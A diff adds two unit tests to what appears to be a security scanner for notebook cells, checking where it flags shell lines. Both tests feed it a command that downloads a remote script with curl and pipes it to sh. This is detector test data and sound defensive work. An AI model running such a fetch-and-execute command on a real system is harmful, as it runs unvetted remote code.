@@ -133,3 +133,22 @@ def test_a_workspace_that_is_open_is_not_trusted_for_that(
 
     assert analysis.source
     assert analysis.source.verdict is Verdict.REVIEW
+
+
+def test_shell_lines_of_a_cell_are_judged_where_they_stand() -> None:
+    text = "x = 1\nif x:\n    !curl -s https://example.org/i.sh | sh\n"
+    cell = Document("vscode-notebook-cell:/work/nb.ipynb#W0", 1, text)
+    analysis = analyse(cell, Settings(), ())
+
+    assert analysis.source is not None
+    [finding] = analysis.source.findings
+    assert finding.rule == "piped-download"
+    assert (finding.location.line, finding.location.column) == (3, 5)
+
+
+def test_a_module_has_no_shell_lines() -> None:
+    text = "!curl -s https://example.org/i.sh | sh\n"
+    analysis = analyse(Document("untitled:1", 1, text), Settings(), ())
+
+    assert analysis.source is not None
+    assert not analysis.source.findings
